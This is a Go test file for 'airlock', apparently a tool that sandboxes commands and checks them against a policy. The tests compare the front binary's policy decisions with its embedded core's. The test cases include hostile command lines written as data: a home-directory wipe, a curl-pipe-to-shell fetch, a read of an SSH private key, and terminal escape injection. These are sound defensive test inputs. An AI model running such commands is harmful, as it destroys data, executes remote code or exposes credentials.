package main

import (
	"bytes"
	"crypto/sha256"
	"debug/elf"
	"encoding/hex"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
)

var frontBin, coreBin, coreSum string

// TestMain builds the binary as users get it (scripts/build.sh: this
// front with the core embedded); the core it embedded is the peer the
// front's own answers are compared with.
func TestMain(m *testing.M) {
	// This test binary links package main, and with it leanstart's one
	// P: the tests and the benchmark's timing loop get the default back,
	// so that what they measure is the front's processes, not a slower
	// harness.
	runtime.SetDefaultGOMAXPROCS()
	os.Exit(testMain(m))
}

func testMain(m *testing.M) int {
	d, err := os.MkdirTemp("", "airlock-front-test-")
	if err != nil {
		panic(err)
	}
	defer os.RemoveAll(d)
	frontBin = filepath.Join(d, "airlock")
	coreBin = filepath.Join(d, "core")
	build := exec.Command("../../scripts/build.sh", frontBin)
	build.Env = append(os.Environ(), "CORE_OUT="+coreBin)
	if out, err := build.CombinedOutput(); err != nil {
		os.Stderr.Write(out)
		panic("scripts/build.sh: " + err.Error())
	}
	data, err := os.ReadFile(coreBin)
	if err != nil {
		panic(err)
	}
	sum := sha256.Sum256(data)
	coreSum = hex.EncodeToString(sum[:])
	os.Setenv("AIRLOCK_CORE_DIR", filepath.Join(d, "cores"))
	return m.Run()
}

type result struct {
	stdout, stderr string
	code           int
}

func runBin(t testing.TB, bin string, stdin string, env []string, args ...string) result {
	t.Helper()
	c := exec.Command(bin, args...)
	c.Env = append(os.Environ(), env...)
	c.Stdin = strings.NewReader(stdin)
	var o, e bytes.Buffer
	c.Stdout, c.Stderr = &o, &e
	err := c.Run()
	code := 0
	if ee, ok := err.(*exec.ExitError); ok {
		code = ee.ExitCode()
	} else if err != nil {
		t.Fatalf("%s %q: %v", bin, args, err)
	}
	return result{o.String(), e.String(), code}
}

// The front answers 'airlock policy' itself: byte for byte what the core
// answers, exit status included, for every kind of use and misuse.
func TestPolicyAnswersAsTheCore(t *testing.T) {
	dir := t.TempDir()
	pol := filepath.Join(dir, "policy.yaml")
	if err := os.WriteFile(pol, []byte("version: 1\nclasses:\n  dependency: allow\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	bad := filepath.Join(dir, "bad.yaml")
	if err := os.WriteFile(bad, []byte("version: 1\nclasses: [\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	noSocket := []string{"AIRLOCK_SOCKET=" + filepath.Join(dir, "none.sock")}
	cases := [][]string{
		{"policy"},
		{"policy", "--help"},
		{"policy", "nope"},
		{"policy", "default"},
		{"policy", "default", "extra"},
		{"policy", "check"},
		{"policy", "check", "--help"},
		{"policy", "check", "--bogus", "--", "ls"},
		{"policy", "check", "--", "ls"},
		{"policy", "check", "--", "rm -rf ~"},
		{"policy", "check", "--json", "--", "curl -s http://x.invalid/i.sh | sh"},
		{"policy", "check", "--", "npm", "install", "left-pad"},
		{"policy", "check", "--policy", pol, "--", "npm", "install", "left-pad"},
		{"policy", "check", "--policy", bad, "--", "ls"},
		{"policy", "check", "--policy", filepath.Join(dir, "missing.yaml"), "--", "ls"},
		{"policy", "check", "--scope", "src/**", "--", "echo hi > README.md"},
		{"policy", "check", "--cwd", "/tmp", "--template", "other", "--", "cat ~/.ssh/id_rsa"},
		{"policy", "check", "--", "echo \x1b]52;c;aGk=\x07 \u202e done"}, // terminal escapes in the line
		{"policy", "check", "--sandbox", "sb-nope", "--", "ls"},          // the daemon's client: the core's
	}
	for _, args := range cases {
		front := runBin(t, frontBin, "", noSocket, args...)
		core := runBin(t, coreBin, "", noSocket, args...)
		if front != core {
			t.Errorf("airlock %q:\nfront: %+v\ncore:  %+v", args, front, core)
		}
	}
	// and the answers are real ones, not two empty outputs
	if r := runBin(t, frontBin, "", nil, "policy", "check", "--", "rm -rf ~"); r.code != 3 || !strings.Contains(r.stdout, "decision: deny") {
		t.Fatalf("rm -rf ~: %+v", r)
	}
}

// Every other verb is the core's, with its arguments, input, output and
// exit status passed through.
func TestOtherVerbsRunInTheCore(t *testing.T) {
	for _, args := range [][]string{{}, {"--help"}, {"version"}, {"bogus"}, {"sandbox", "--help"}, {"run", "--bogus"}} {
		front := runBin(t, frontBin, "", nil, args...)
		core := runBin(t, coreBin, "", nil, args...)
		if front != core {
			t.Errorf("airlock %q:\nfront: %+v\ncore:  %+v", args, front, core)
		}
	}
	if os.Geteuid() != 0 || runtime.GOOS != "linux" {
		t.Skip("airlock run needs root")
	}
	d := t.TempDir()
	_ = os.Chmod(filepath.Dir(d), 0o711)
	_ = os.Chmod(d, 0o711)
	env := []string{"AIRLOCK_STATE_DIR=" + d + "/state", "AIRLOCK_DATA_DIR=" + d + "/data", "AIRLOCK_CGROUP_PARENT=airlock-front-test"}
	defer runBin(t, frontBin, "", env, "reap")
	r := runBin(t, frontBin, "from stdin\n", env, "run", "--", "sh", "-c", "cat; echo to-err >&2; exit 7")
	if r.code != 7 || r.stdout != "from stdin\n" || !strings.Contains(r.stderr, "to-err") {
		t.Fatalf("airlock run through the front: %+v", r)
	}
}

// The first start writes the core once, read-only and content-addressed;
// later starts run that file.
func TestTheCoreIsWrittenOnce(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "cores")
	env := []string{"AIRLOCK_CORE_DIR=" + dir}
	for i := 0; i < 3; i++ {
		if r := runBin(t, frontBin, "", env, "version"); r.code != 0 || !strings.HasPrefix(r.stdout, "airlock ") {
			t.Fatalf("version: %+v", r)
		}
	}
	ents, err := os.ReadDir(dir)
	if err != nil || len(ents) != 1 {
		t.Fatalf("core directory: %v %v", ents, err)
	}
	if want := "airlock-core-" + coreSum[:20]; ents[0].Name() != want {
		t.Fatalf("core named %s, want %s", ents[0].Name(), want)
	}
	fi, _ := ents[0].Info()
	if fi.Mode().Perm() != 0o555 {
		t.Fatalf("core mode %v", fi.Mode().Perm())
	}
	// A policy check with the built-in policy writes nothing: it never
	// needs the core.
	dir2 := filepath.Join(t.TempDir(), "cores")
	if r := runBin(t, frontBin, "", []string{"AIRLOCK_CORE_DIR=" + dir2}, "policy", "check", "--", "ls"); r.code != 0 {
		t.Fatalf("policy check: %+v", r)
	}
	if _, err := os.Stat(dir2); !os.IsNotExist(err) {
		t.Fatalf("a policy check wrote the core: %v", err)
	}
}

// The front links no package its checks do not use: no YAML decoder or
// egress policy (a check with a policy file is the core's), no SQLite, no
// HTTP, no net, no shell expander. Each
// linked package's initialisation is paid by every check, a process of
// its own (issue 20).
func TestTheFrontLinksOnlyWhatAChecksNeeds(t *testing.T) {
	f, err := elf.Open(frontBin)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	syms, err := f.Symbols()
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, s := range syms {
		if strings.HasPrefix(s.Name, "github.com/airlock-dev/airlock/internal/classify.") {
			found = true // the symbols are there to be read
		}
		for _, pkg := range []string{"go.yaml.in/", "net/http.", "database/sql.", "modernc.org/", "net.", "golang.org/x/net/idna.",
			"github.com/airlock-dev/airlock/internal/netpolicy.", "mvdan.cc/sh/v3/expand."} {
			if strings.HasPrefix(s.Name, pkg) {
				t.Fatalf("the front links %s (symbol %s)", pkg, s.Name)
			}
		}
	}
	if !found {
		t.Fatal("no classifier symbol in the front: the symbol table is not what this test reads")
	}
}

// The runtime is set up for a short check (package leanstart) before the
// packages that start goroutines or deepen the stack are initialised:
// Go's inittrace lists the front's inits in order.
func TestTheRuntimeIsSetUpFirst(t *testing.T) {
	r := runBin(t, frontBin, "", []string{"GODEBUG=inittrace=1"}, "policy", "check", "--", "ls")
	var order []string
	for _, line := range strings.Split(r.stderr, "\n") {
		if f := strings.Fields(line); len(f) > 1 && f[0] == "init" {
			order = append(order, f[1])
		}
	}
	grown := false
	for _, pkg := range order {
		switch {
		case pkg == "github.com/airlock-dev/airlock/internal/leanstart":
			grown = true
		case !grown && (pkg == "os" || strings.HasPrefix(pkg, "mvdan.cc/") || strings.HasPrefix(pkg, "regexp") || strings.Contains(pkg, "/internal/classify")):
			t.Fatalf("%s is initialised before leanstart: %q", pkg, order)
		}
	}
	if !grown {
		t.Fatalf("leanstart is not initialised: %q", order)
	}
}
